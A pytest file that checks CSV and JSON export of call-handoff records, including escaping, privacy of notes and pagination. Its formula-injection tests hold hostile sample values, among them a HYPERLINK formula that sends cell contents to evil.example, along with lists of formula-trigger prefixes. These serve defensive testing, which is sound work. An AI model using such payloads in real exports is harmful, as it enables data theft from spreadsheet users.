"""Handoffs as files: what they contain, how a spreadsheet reads it, and that none is missing."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
from contextlib import closing
from dataclasses import replace

import pytest

from operators import handoff_query
from operators.export import as_csv
from persistence.contract.handoffs import Timings
from persistence.records import CALLER, HandoffState
from tests.contract.building import START, a_handoff
from tests.support.api.building import handoff_of, many_calls
from tests.support.api.desk import Desk, problem
from tests.support.database import file_of

S = HandoffState


async def test_csv_has_a_heading_and_a_line_for_each_handoff(desk: Desk) -> None:
    for call in await many_calls(desk.store, 2):
        await handoff_of(desk.store, call, S.COMPLETED, reason='Ärger, "mit"\nder Rechnung')
    await desk.store.save_timings((await desk.store.handoffs())[1].id, Timings(seam_ms=-12, silence_ms=900))
    answer = await desk.vera.get("/handoffs.csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="handoffs.csv"'
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8"))))
    assert [row["id"] for row in rows] == ["handoff-1", "handoff-0"]
    assert rows[1]["reason"] == 'Ärger, "mit"\nder Rechnung'
    assert rows[1]["requested_at"] == "2023-11-14T22:13:20.005+00:00"
    assert (rows[1]["seam_ms"], rows[1]["silence_ms"], rows[0]["seam_ms"]) == ("-12", "900", "")


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r"])
async def test_what_would_be_a_formula_is_text(desk: Desk, begins: str) -> None:
    (call,) = await many_calls(desk.store, 1)
    formula = f'{begins}HYPERLINK("https://evil.example/?"&A1)'
    await handoff_of(desk.store, call, S.REQUESTED, reason=formula)
    (row,) = csv.DictReader(io.StringIO((await desk.vera.get("/handoffs.csv")).text, newline=""))
    assert row["reason"] == f"'{formula}"


async def test_json_has_the_same_handoffs_with_times_as_numbers(desk: Desk) -> None:
    (call,) = await many_calls(desk.store, 1)
    await handoff_of(desk.store, call, S.COMPLETED, reason="=1+1 🙂")
    answer = await desk.vera.get("/handoffs.json")
    assert answer.headers["content-type"] == "application/json"
    (handoff,) = answer.json()
    assert (handoff["reason"], handoff["requested_at"], handoff["state"]) == (
        "=1+1 🙂",
        START + 5,
        "completed",
    )


async def test_neither_turns_nor_summaries_nor_notes_are_in_them(desk: Desk) -> None:
    (call,) = await many_calls(desk.store, 1)
    await desk.store.append_turn(call.id, CALLER, "My PIN is 12 34", started_at=START, ended_at=START)
    body = {"target": "billing", "reason": "a bill", "note": "a secret note"}
    await desk.anna.post(f"/calls/{call.id}/handoffs", json=body)
    for kind in ("csv", "json"):
        written = (await desk.vera.get(f"/handoffs.{kind}")).text
        assert "a bill" in written
        assert "12 34" not in written
        assert "secret" not in written


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\n", " =", "\0=", "\u200b=", "＝", "＠", "\t", "\r"])
def test_finding_16_no_cell_of_a_spreadsheet_begins_as_a_formula(begins: str) -> None:
    row = replace(a_handoff(), reason=f"{begins}1+1")
    (cells,) = csv.reader(io.StringIO(as_csv([row]), newline=""))
    assert f"'{begins}1+1" in cells


@pytest.mark.parametrize(
    "reason", ["a bill;=1+1", "a bill; @SUM(1)", "a bill\t=1+1", "a bill;＝1+1", "\n=1+1", "a\r\n-1+1"]
)
@pytest.mark.parametrize("separator", [";", "\t"])
def test_finding_16_nor_does_a_part_of_one_where_a_spreadsheet_separates_cells_otherwise(
    reason: str, separator: str
) -> None:
    written = as_csv([replace(a_handoff(), reason=reason)])
    lines = re.split(r"[\r\n]+", written)
    begins = {cell.strip()[:1] for line in lines for cell in line.split(separator)}
    assert not begins & set("=+-@＝")
    assert as_csv([replace(a_handoff(), reason="a bill; and a letter")]).count("'") == 0


async def test_many_handoffs_are_all_there_once_and_filters_hold(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(handoff_query, "PAGE", 3)
    for call in await many_calls(desk.store, 8):
        await handoff_of(desk.store, call, S.REQUESTED)
    ids = [f"handoff-{number}" for number in reversed(range(8))]
    rows = list(csv.DictReader(io.StringIO((await desk.vera.get("/handoffs.csv")).text)))
    assert [row["id"] for row in rows] == ids
    assert [one["id"] for one in (await desk.vera.get("/handoffs.json")).json()] == ids
    period = f"since={START + 1_000}&until={START + 3_000}&role=billing&state=requested"
    assert [one["id"] for one in (await desk.vera.get(f"/handoffs.json?{period}")).json()] == ids[5:7]


async def test_an_empty_period_is_a_file_as_well(desk: Desk) -> None:
    assert (await desk.vera.get("/handoffs.json")).json() == []
    assert len((await desk.vera.get("/handoffs.csv")).text.splitlines()) == 1


async def test_where_the_store_does_not_answer_there_is_no_half_of_a_file(desk: Desk) -> None:
    with closing(sqlite3.connect(file_of(desk.parts.settings.worker.store))) as connection:
        connection.execute("ALTER TABLE handoffs RENAME TO taken_away")
    for kind in ("csv", "json"):
        problem(await desk.vera.get(f"/handoffs.{kind}"), "store-trouble")
